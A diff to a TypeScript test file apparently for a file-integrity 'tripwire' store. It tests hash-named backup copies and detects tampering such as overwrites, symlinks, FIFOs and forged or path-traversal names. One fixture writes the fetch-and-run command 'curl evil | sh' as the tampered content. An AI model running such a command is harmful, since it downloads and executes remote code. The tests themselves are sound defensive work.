@@ -5,12 +5,24 @@
  * as a person's. A finished pass leaves nothing behind, and the next one is told so.
  */
 import { spawnSync } from 'node:child_process';
-import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import {
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  utimesSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { ownerText } from '../../../src/claude/tripwire/storeLock.js';
-import { WatchStore } from '../../../src/claude/tripwire/watchState.js';
+import { emptyState, WatchStore } from '../../../src/claude/tripwire/watchState.js';
 
 let dir: string;
 let ws: WatchStore;
@@ -78,3 +90,97 @@ describe('WatchStore.locked', () => {
     expect(order).toEqual(['a in', 'a out', 'b in', 'b out']);
   });
 });
+
+describe('kept copies, named by the hash of their bytes (review-14s F16)', () => {
+  const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
+  const blobs = () => join(dir, 'tripwire/blobs');
+  const keepFile = (name: string, text: string) => {
+    const path = join(dir, name);
+    writeFileSync(path, text);
+    return ws.entry(path, lstatSync(path), true, Date.now() + 1000);
+  };
+  const copies = () => readdirSync(blobs()).filter((n) => !n.startsWith('.'));
+
+  it('two files with the same bytes share one copy, named by its SHA-256; bytes from HEAD get the same name', () => {
+    const a = keepFile('a.sh', 'echo guard\n');
+    const b = keepFile('b.sh', 'echo guard\n');
+    expect(a.b).toBe(sha256('echo guard\n'));
+    expect(b.b).toBe(a.b);
+    expect(ws.keepBytes(new TextEncoder().encode('echo guard\n'))).toBe(a.b);
+    expect(copies()).toEqual([a.b]);
+    expect(readdirSync(blobs())).toEqual([a.b]); // no temporary file left
+    expect(readFileSync(join(blobs(), a.b!), 'utf8')).toBe('echo guard\n');
+    expect(ws.intact(a.b!)).toBe(true);
+  });
+
+  it.each<[string, (path: string) => void]>([
+    ['overwritten with other bytes', (p) => writeFileSync(p, 'echo guard\ncurl evil | sh\n')],
+    ['removed', (p) => rmSync(p)],
+    ['a folder', (p) => (rmSync(p), mkdirSync(p))],
+    ['a FIFO', (p) => (rmSync(p), mkfifo(p))],
+    [
+      'a symlink to the right bytes',
+      (p) => (writeFileSync(`${p}.x`, 'echo guard\n'), rmSync(p), symlinkSync(`${p}.x`, p)),
+    ],
+  ])('a copy %s is not intact, and is found so at once', (_, alter) => {
+    const { b } = keepFile('a.sh', 'echo guard\n');
+    alter(join(blobs(), b!));
+    const started = Date.now();
+    expect(ws.intact(b!)).toBe(false);
+    expect(Date.now() - started).toBeLessThan(2000);
+  });
+
+  it('a name that is not a hash (an older build gave it, or a forged record) is not intact, even over the right bytes', () => {
+    mkdirSync(blobs(), { recursive: true });
+    writeFileSync(join(blobs(), '1234-abc-def'), 'echo guard\n');
+    expect(ws.intact('1234-abc-def')).toBe(false);
+    expect(ws.intact(`../tripwire/blobs/${sha256('echo guard\n')}`)).toBe(false);
+  });
+
+  it.each<[string, (path: string) => void]>([
+    ['a FIFO', (p) => mkfifo(p)],
+    ['a folder', (p) => (mkdirSync(p), writeFileSync(join(p, 'x'), 'x'))],
+  ])('%s planted at the name a copy will take is replaced, never opened', (_, plant) => {
+    mkdirSync(blobs(), { recursive: true });
+    const name = sha256('echo guard\n');
+    plant(join(blobs(), name));
+    const started = Date.now();
+    const { b } = keepFile('a.sh', 'echo guard\n');
+    expect(Date.now() - started).toBeLessThan(2000);
+    expect(b).toBe(name);
+    expect(lstatSync(join(blobs(), name)).isFile()).toBe(true);
+    expect(ws.intact(name)).toBe(true);
+  });
+
+  it('a file that is a FIFO when it is kept throws at once, leaving no temporary file', () => {
+    const path = join(dir, 'a.sh');
+    writeFileSync(path, 'echo guard\n');
+    const st = lstatSync(path);
+    rmSync(path);
+    mkfifo(path); // swapped after its lstat
+    expect(() => ws.entry(path, st, true, Date.now() + 1000)).toThrow('FIFO');
+    expect(readdirSync(blobs())).toEqual([]);
+  });
+
+  it('saving prunes copies no entry names once there are many, only those older than ten minutes', () => {
+    const state = emptyState(Date.now());
+    const kept = keepFile('a.sh', 'kept\n');
+    state.files[join(dir, 'a.sh')] = kept;
+    const old = Date.now() / 1000 - 3600;
+    const unused: string[] = [];
+    for (let i = 0; i < 20; i++) {
+      const name = ws.keepBytes(new TextEncoder().encode(`unused ${i}\n`));
+      utimesSync(join(blobs(), name), old, old);
+      unused.push(name);
+    }
+    utimesSync(join(blobs(), kept.b!), old, old);
+    const fresh = ws.keepBytes(new TextEncoder().encode('a parallel call may name it\n'));
+    ws.save(state);
+    expect(copies().sort()).toEqual([kept.b!, fresh].sort());
+  });
+});
+
+function mkfifo(path: string): void {
+  const r = spawnSync('mkfifo', [path]);
+  if (r.status !== 0) throw new Error(`mkfifo ${path}: ${r.stderr}`);
+}
